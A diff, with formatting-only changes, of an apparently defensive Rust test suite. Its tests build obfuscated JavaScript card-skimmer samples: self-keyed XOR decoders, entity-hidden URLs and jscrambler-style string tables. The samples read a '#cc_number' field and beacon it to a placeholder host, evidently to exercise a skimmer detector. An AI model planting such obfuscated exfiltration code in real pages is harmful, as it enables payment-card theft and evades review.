@@ -102,10 +102,7 @@ fn sloppy_mode_shift_loop_through_unescape_and_this_eval() {
 fn named_iife_keyed_on_its_own_source() {
     // The key is the first character of the function's own text ('f' of `function`).
     let key = b'f';
-    let enc: Vec<String> = payload()
-        .bytes()
-        .map(|b| (b ^ key).to_string())
-        .collect();
+    let enc: Vec<String> = payload().bytes().map(|b| (b ^ key).to_string()).collect();
     let code = format!(
         "(function(){{(function SELF(){{var k=SELF.toString().charCodeAt(0),d=[{}],o='';\
          for(var j=0;j<d.length;j++)o+=String.fromCharCode(d[j]^k);Function(o)();}})()}})();",
@@ -186,7 +183,10 @@ fn selector_list_and_star_harvest_every_field() {
 #[test]
 fn entity_url_read_through_computed_jquery_methods() {
     // `.html(x).text()` reached through a string table, the URL hidden as entities.
-    let entities: String = format!("//{HOST}/e").chars().map(|c| format!("&#x{:X};", c as u32)).collect();
+    let entities: String = format!("//{HOST}/e")
+        .chars()
+        .map(|c| format!("&#x{:X};", c as u32))
+        .collect();
     let code = format!(
         "var t=['html','text','<div />','#cc_number','val'];\
          (function($){{$(function(q){{q('form').on('submit',function(){{\
@@ -232,9 +232,7 @@ fn decoder_keyed_on_its_own_script_text() {
     // `<script>` element, so an edited copy decodes to garbage.
     let last_line = "//end-of-loader-0123";
     let key = last_line.len() as u8;
-    let words = format!(
-        "getElementById|cc_number|value|https://{HOST}/k|sendBeacon"
-    );
+    let words = format!("getElementById|cc_number|value|https://{HOST}/k|sendBeacon");
     let hex: String = words.bytes().map(|b| format!("{:02x}", b ^ key)).collect();
     let code = format!(
         "(function(){{function D(s){{var t=document.getElementsByTagName('script');\
@@ -251,7 +249,13 @@ fn decoder_keyed_on_its_own_script_text() {
 fn decoder_indices_parked_in_locals_jscrambler_style() {
     // `function d(){}` gets its decoder as a property; every call site first parks the
     // index in a local, directly or through an identity function.
-    let words = ["sendBeacon", &format!("https://{HOST}/j"), "getElementById", "cc_number", "value"];
+    let words = [
+        "sendBeacon",
+        &format!("https://{HOST}/j"),
+        "getElementById",
+        "cc_number",
+        "value",
+    ];
     let table: Vec<String> = words
         .iter()
         .map(|w| w.bytes().map(|b| format!("%{b:02X}")).collect::<String>())
